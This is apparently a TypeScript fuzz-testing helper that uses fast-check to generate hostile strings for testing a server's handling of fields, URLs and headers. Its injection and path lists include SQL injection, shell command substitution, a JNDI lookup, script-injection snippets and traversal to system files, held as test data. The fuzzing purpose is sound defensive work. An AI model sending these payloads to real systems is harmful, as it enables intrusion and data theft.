// Hostile text: what a careless or malicious client can put in a string field, a path segment,
// a query value or a header. Kept as data plus a few arbitraries so every position draws on it.
import fc from "fast-check";

/**
 * Text PostgreSQL, JSON, URL decoding, Unicode handling, HTML or a shell treat specially, by
 * kind: a kind is picked first, so a rare kind (NUL) is as likely as a crowded one (injection).
 */
export const HOSTILE = {
  nul: ["\0", "a\0b", "\0".repeat(64), "%00\0"],
  surrogates: ["\uD800", "\uDFFF", "x\uDBFFy", "\uDFFF\uD800", "\uD83D", "a\uDE00"],
  invisible: ["\u202Eevil\u202C", "\u200B\u200C\u200D\u2060", "\uFEFF", "\u2028\u2029", "\u0085\u00A0\u3000", "\x1b[31m\x07\x7f\b", " \t\r\n ", "", " "],
  unicode: [
    "e\u0301", // combining accent, not NFC
    "A\u030A", // "Å" decomposed; "\u00C5" composed
    "\u212A", // Kelvin sign: lower-cases to "k"
    "\u0130", // "İ": lower-cases to two code units
    "\u00DF", // "ß": upper-cases to "SS"
    "\uFB01", // "ﬁ" ligature
    "ｅｘａｍｐｌｅ", // fullwidth
    "\uFFFD\uFFFE\uFFFF",
    "\u{10FFFF}",
    "\uD83D\uDE00", // a valid pair (😀)
    "👩‍👩‍👧‍👦🏳️‍🌈",
  ],
  injection: ["' OR '1'='1' --", "'; DROP TABLE users; --", "\\", '"', "\\u0000", "`$(id)`", "${jndi:ldap://x.invalid/a}", "{{7*7}}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"],
  paths: ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "%00", "%E0%A4%A", "%", "%zz", "%C0%AF", "%ED%A0%80", "file:///etc/passwd", "http://user:pass@127.0.0.1:22/", "https://[::1]/", "*.*"],
  words: ["__proto__", "constructor", "prototype", "null", "undefined", "NaN", "Infinity", "-0", "1e400", "0x7fffffff", "9".repeat(40), "true", "[]", "{}", "a@b", "A@EXAMPLE.COM"],
};

/** Every hostile string in one list (for a place that just needs some). */
export const ALL_HOSTILE = Object.values(HOSTILE).flat();

/** One hostile string, its kind picked first. */
const hostileConstant = fc.constantFrom(...(Object.keys(HOSTILE) as (keyof typeof HOSTILE)[])).chain((kind) => fc.constantFrom(...HOSTILE[kind]));

/** The long ones: one over the body limit (64 KiB), one under it. */
export const LONG = ["a".repeat(100 * 1024), "é".repeat(20_000), "\uD800".repeat(5_000)];

/** Raw text for a URL (path segment or query), sent as is: bad or tricky percent-encoding. */
export const RAW_URL_TEXT = ["%E0%A4%A", "%", "%%", "%zz", "%00", "a%00b", "%ED%A0%80", "%C0%AF", "%FF%FE", "..", "%2e%2e", ".", "%2F", "a%2Fb", "%5C", "%20", "+", "%2B", ";", "a;b=c", "%0d%0a", "%uD800"];

/** Any UTF-16 code units, lone surrogates included (fast-check's own units are well formed). */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const anyUnits = fc.string({ unit: codeUnit, maxLength: 24 });

/** A hostile string: from the list, random code units, or the list's items inside `around`. */
export function hostileString(around: fc.Arbitrary<string> = fc.constant("")): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: hostileConstant },
    { weight: 2, arbitrary: anyUnits },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 24 }) },
    { weight: 5, arbitrary: fc.tuple(around, hostileConstant, fc.nat()).map(([text, bad, at]) => insert(text, bad, at)) },
    { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  );
}

/** `bad` inside `text` at a position picked by `at`, so only that part is wrong. */
export function insert(text: string, bad: string, at: number): string {
  const i = text.length === 0 ? 0 : at % (text.length + 1);
  return text.slice(0, i) + bad + text.slice(i);
}

/**
 * Text as it can travel in a URL: percent-encoded UTF-8, except that a lone surrogate, which has
 * no UTF-8, goes as the bytes a careless client would send (CESU-8), so decoding it fails.
 */
export function encodeUrlText(text: string): string {
  let out = "";
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const pair = c >= 0xd800 && c <= 0xdbff && i + 1 < text.length && (text.charCodeAt(i + 1) & 0xfc00) === 0xdc00;
    if (pair) {
      out += encodeURIComponent(text.slice(i, i + 2));
      i++;
    } else if (c >= 0xd800 && c <= 0xdfff) {
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join("");
    } else {
      out += encodeURIComponent(text[i]);
    }
  }
  return out;
}

/**
 * A header value as Node hands it over from the wire: non-Latin-1 text arrives as its UTF-8
 * bytes read one per character, and NUL, CR and LF never arrive (the HTTP parser refuses them).
 */
export function asHeaderValue(text: string): string {
  return Buffer.from(text, "utf8").toString("latin1").replace(/[\0\r\n]/g, "");
}
